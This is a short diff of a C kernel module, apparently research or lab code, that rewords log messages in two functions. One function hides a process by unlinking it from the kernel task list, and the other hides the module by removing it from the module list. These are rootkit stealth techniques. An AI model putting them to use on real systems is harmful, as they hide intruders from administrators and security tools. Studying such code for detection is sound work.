@@ -672,8 +672,8 @@ static int do_hideproc(void)
 	INIT_LIST_HEAD(&t->tasks);
 	write_unlock_irq(kvma_tasklist_lock);
 	hidden_task = t;
-	pr_info("hideproc done: pid=%d comm=%s task=%px unlinked from init_task.tasks (init_task=%px); still in the PID table\n",
-		task_pid_nr(t), t->comm, t, &init_task);
+	pr_info("hideproc done: pid=%d comm=%s task=%px tasks=%px init_task=%px unlinked from init_task.tasks, still in the PID table\n",
+		task_pid_nr(t), t->comm, t, &t->tasks, &init_task);
 	return 0;
 }
 
@@ -708,7 +708,7 @@ static int do_hide(void)
 	if (!kvma_module_mutex || !kvma_modules)
 		return -ENOENT;
 	mutex_lock(kvma_module_mutex);
-	pr_info("hide done: module=%px name=%s list=%px unlinked from modules=%px (prev=%px next=%px); /sys/module/%s kept\n",
+	pr_info("hide done: module=%px name=%s list=%px modules=%px prev=%px next=%px unlinked from the module list, /sys/module/%s kept\n",
 		THIS_MODULE, THIS_MODULE->name, &THIS_MODULE->list, kvma_modules,
 		THIS_MODULE->list.prev, THIS_MODULE->list.next, THIS_MODULE->name);
 	list_del_rcu(&THIS_MODULE->list);
